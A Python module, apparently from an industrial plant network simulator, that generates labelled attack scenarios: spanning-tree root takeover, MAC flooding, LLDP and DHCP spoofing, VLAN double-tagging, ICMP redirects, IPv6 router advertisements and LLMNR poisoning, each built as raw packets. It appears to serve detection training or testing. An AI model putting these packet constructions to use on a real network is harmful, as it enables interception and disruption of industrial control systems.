"""The network under the plant: false announcements of who is where, and of which way is the best."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Cast, Wait
from interlock.plant.blind.chance import count, one_of, pace
from interlock.plant.blind.drawn import drawn
from interlock.plant.blind.forge import EVERYBODY, datagram, end_of, knock, raw
from interlock.plant.machines import BY_NAME
from interlock.plant.protocols.network import LLDP, LLDP_GROUP, lldp
from interlock.plant.wire.frames import End, ethernet, internet_checksum, udp

if TYPE_CHECKING:
    from collections.abc import Callable

    from interlock.plant.actors.steps import Script
    from interlock.plant.attacks.scenario import Scenario, Scene
    from interlock.plant.draws import Draws

__all__ = ["FAMILIES"]

_ALL: Final = End(EVERYBODY, b"\xff\xff\xff\xff")
_BRIDGES: Final = bytes.fromhex("0180c2000000")


def _host(draws: Draws) -> str:
    return one_of(draws, ("vendor-laptop", "engineering", "historian", "plc-filler", "hvac-hall"))


def _spanning_tree(draws: Draws) -> Scenario:
    """Somebody claims to be the root of the tree, so that all traffic comes by."""
    who, times, changes = _host(draws), count(draws, 5, 90), draws.uniform() < 0.4

    def script(_scene: Scene) -> Script:
        mac = end_of(who).mac
        bridge = struct.pack("!H", 0) + mac
        config = b"\0\0\0\0\0" + bytes((1 if changes else 0,)) + bridge + bytes(4) + bridge
        bpdu = config + struct.pack("!HHHHH", 0x8001, 0, 20 << 8, 2 << 8, 15 << 8)
        told = b"\0\0\0\x80" if changes and times % 2 else bpdu
        body = b"\x42\x42\x03" + told
        for _ in range(times):
            yield raw(who, ethernet(_BRIDGES, mac, len(body), body))
            yield Wait(2.0)

    ids = ("T0830", "T0842", "T0814", "T0848", "T0864")
    return drawn("spanning-tree-root", ids, who, ["switch"], script)


def _hardware_addresses(draws: Draws) -> Scenario:
    """So many hardware addresses that a switch forgets the true ones and shows everything to everybody."""
    who, many, pause = _host(draws), count(draws, 500, 4000), pace(draws, 0.0005, 0.01)
    arps = draws.uniform() < 0.5

    def script(scene: Scene) -> Script:
        for _ in range(many):
            mac = bytes((scene.draws.number(8) & 0xFC,)) + scene.draws.number(40).to_bytes(5, "big")
            ip = bytes((10, 77, 1, scene.draws.number(8)))
            if arps:
                told = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + ip + bytes(6) + bytes((10, 77, 1, 1))
                yield raw(who, ethernet(EVERYBODY, mac, 0x0806, told))
            else:
                target = scene.draws.number(46).to_bytes(6, "big")
                yield raw(who, udp(End(mac, ip), End(target, b"\x0a\x4d\x01\x01"), (9, 9), bytes(18)))
            yield Wait(pause)

    ids = ("T0830", "T0842", "T0814", "T0840", "T0846")
    return drawn("hardware-addresses", ids, who, ["switch"], script)


def _announced(draws: Draws) -> Scenario:
    """Somebody says that he is the plant's switch, or a device of its maker."""
    who, times = _host(draws), count(draws, 2, 12)
    name = one_of(draws, ("switch", "core-switch", "SCALANCE-X", "plc-boiler"))

    def script(scene: Scene) -> Script:
        mac = BY_NAME["switch"].end.mac if scene.draws.uniform() < 0.3 else end_of(who).mac
        payload = lldp(mac, f"port-{scene.draws.number(4)}", name, "Practice Switch, firmware 9.9")
        for _ in range(times):
            yield Cast(who, LLDP_GROUP, LLDP, payload)
            yield Wait(15.0)

    ids = ("T0849", "T0830", "T0864", "T0848", "T0832", "T0856", "T0842")
    return drawn("neighbour-announced", ids, who, ["switch"], script)


def _tags(draws: Draws) -> Scenario:
    """Frames with one tag inside another one, to get from one virtual network into the other."""
    who, victim, times = (
        _host(draws),
        one_of(draws, ("plc-water", "plc-boiler", "plc-pasteuriser")),
        count(draws, 5, 200),
    )
    outer, inner = count(draws, 1, 50), count(draws, 51, 4000)
    port, pause = one_of(draws, (502, 102, 4840, 80)), pace(draws, 0.02, 1.0)

    def script(scene: Scene) -> Script:
        for k in range(times):
            cast = knock(who, end_of(who), end_of(victim), (30_000 + k, port), scene.draws.number(32))
            tags = struct.pack("!HHH", outer, 0x8100, inner)
            packet = cast.payload if cast.ethertype == 0x0800 else b""
            yield Cast(who, cast.target, 0x8100, tags + b"\x08\0" + packet)
            yield Wait(pause)

    ids = ("T0846", "T0830", "T0866", "T0840", "T0814", "T0848", "T0886", "T0867")
    return drawn("tags-doubled", ids, who, [victim], script)


def _dhcp(op: int, kind: int, numbers: tuple[int, bytes, bytes, bytes], more: bytes = b"") -> bytes:
    """One message of DHCP (RFC 2131). numbers: transaction, address given, that of the server, the hardware's."""
    xid, given, server, mac = numbers
    head = struct.pack("!BBBBIHH", op, 1, 6, 0, xid, 0, 0x8000) + bytes(4) + given + server + bytes(4)
    cookie = b"\x63\x82\x53\x63\x35\x01" + bytes((kind,))
    return (head + mac.ljust(16, b"\0") + bytes(192) + cookie + more + b"\xff").ljust(300, b"\0")


def _addresses_given(draws: Draws) -> Scenario:
    """A second server gives addresses and says where the way out is."""
    who, times, mac = (
        _host(draws),
        count(draws, 1, 8),
        bytes.fromhex("3c528200") + draws.number(16).to_bytes(2, "big"),
    )

    def script(scene: Scene) -> Script:
        me, client = end_of(who), End(mac, bytes(4))
        way = b"\x36\x04" + me.ip + b"\x01\x04\xff\xff\xff\0\x03\x04" + me.ip + b"\x06\x04" + me.ip
        for k in range(times):
            given = bytes((10, 77, 1, 200 + k))
            asked = (scene.draws.number(32), bytes(4), me.ip, mac)
            told = (asked[0], given, me.ip, mac)
            steps = ((client, _dhcp(1, 1, asked)), (me, _dhcp(2, 2, told, way + b"\x33\x04\0\0\x0e\x10")),
                     (client, _dhcp(1, 3, asked, b"\x32\x04" + given)),
                     (me, _dhcp(2, 5, told, way + b"\x33\x04\0\0\x0e\x10")))  # fmt: skip
            for source, octets in steps:
                ports = (68, 67) if source is client else (67, 68)
                yield datagram("engineering" if source is client else who, source, _ALL, ports, octets)
                yield Wait(0.02)
            yield Wait(4.0)

    ids = ("T0830", "T0849", "T0848", "T0842", "T0836", "T0814")
    return drawn("addresses-given", ids, who, ["engineering"], script)


def _redirect(draws: Draws) -> Scenario:
    """Machines are told of a better way, or of a router for IPv6."""
    who, times, six = _host(draws), count(draws, 5, 80), draws.uniform() < 0.5
    victim = one_of(draws, tuple(m for m in ("hmi", "engineering") if m != who))

    def script(_scene: Scene) -> Script:
        me, target = end_of(who), end_of(victim)
        for k in range(times):
            if six:
                yield raw(who, _router_advertised(me))
            else:
                inner = struct.pack(
                    "!BBHHHBBH4s4s", 0x45, 0, 28, k, 0, 64, 17, 0, target.ip, BY_NAME["plc-water"].end.ip
                ) + bytes(8)
                body = b"\x05\x01\0\0" + me.ip + inner
                body = body[:2] + internet_checksum(body).to_bytes(2, "big") + body[4:]
                head = struct.pack(
                    "!BBHHHBBH4s4s",
                    0x45,
                    0,
                    20 + len(body),
                    k,
                    0,
                    64,
                    1,
                    0,
                    BY_NAME["switch"].end.ip,
                    target.ip,
                )
                head = head[:10] + internet_checksum(head).to_bytes(2, "big") + head[12:]
                yield raw(who, ethernet(target.mac, me.mac, 0x0800, head + body))
            yield Wait(1.5)

    ids = ("T0830", "T0842", "T0849", "T0848", "T0814")
    return drawn("way-redirected", ids, who, [victim], script)


def _router_advertised(me: End) -> bytes:
    source = (
        bytes.fromhex("fe80000000000000") + bytes((me.mac[0] ^ 2,)) + me.mac[1:3] + b"\xff\xfe" + me.mac[3:]
    )
    group = bytes.fromhex("ff020000000000000000000000000001")
    body = b"\x86\0\0\0\x40\x08\x07\x08" + bytes(8) + b"\x01\x01" + me.mac
    body += (
        b"\x03\x04\x40\xc0"
        + struct.pack("!III", 86400, 14400, 0)
        + bytes.fromhex("20010db8000000000000000000000000")
    )
    checksum = internet_checksum(source + group + struct.pack("!II", len(body), 58) + body)
    body = body[:2] + checksum.to_bytes(2, "big") + body[4:]
    packet = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + group + body
    return ethernet(bytes.fromhex("333300000001"), me.mac, 0x86DD, packet)


def _names_poisoned(draws: Draws) -> Scenario:
    """Names that are asked for on the local network are answered by somebody else (as Responder does)."""
    who, times = _host(draws), count(draws, 3, 40)
    asker = one_of(draws, tuple(m for m in ("hmi", "historian", "engineering") if m != who))

    def script(scene: Scene) -> Script:
        group = End(bytes.fromhex("01005e0000fc"), bytes((224, 0, 0, 252)))
        for k in range(times):
            label = f"files{scene.draws.number(6)}".encode("ascii")
            name = bytes((len(label),)) + label + b"\0"
            asked = struct.pack("!HHHHHH", k, 0, 1, 0, 0, 0) + name + b"\0\1\0\1"
            yield datagram(asker, end_of(asker), group, (50_000 + k, 5355), asked, k)
            yield Wait(0.01)
            answer = struct.pack("!HHHHHH", k, 0x8000, 1, 1, 0, 0) + name + b"\0\1\0\1"
            answer += name + b"\0\1\0\1" + struct.pack("!IH", 30, 4) + end_of(who).ip
            yield datagram(who, end_of(who), end_of(asker), (5355, 50_000 + k), answer, k)
            yield Wait(2.0)

    ids = ("T0830", "T0849", "T0859", "T0842", "T0848")
    return drawn("names-poisoned", ids, who, [asker], script)


FAMILIES: Final[dict[str, Callable[[Draws], Scenario]]] = {
    "spanning-tree-root": _spanning_tree, "hardware-addresses": _hardware_addresses,
    "neighbour-announced": _announced, "tags-doubled": _tags, "addresses-given": _addresses_given,
    "way-redirected": _redirect, "names-poisoned": _names_poisoned,
}  # fmt: skip
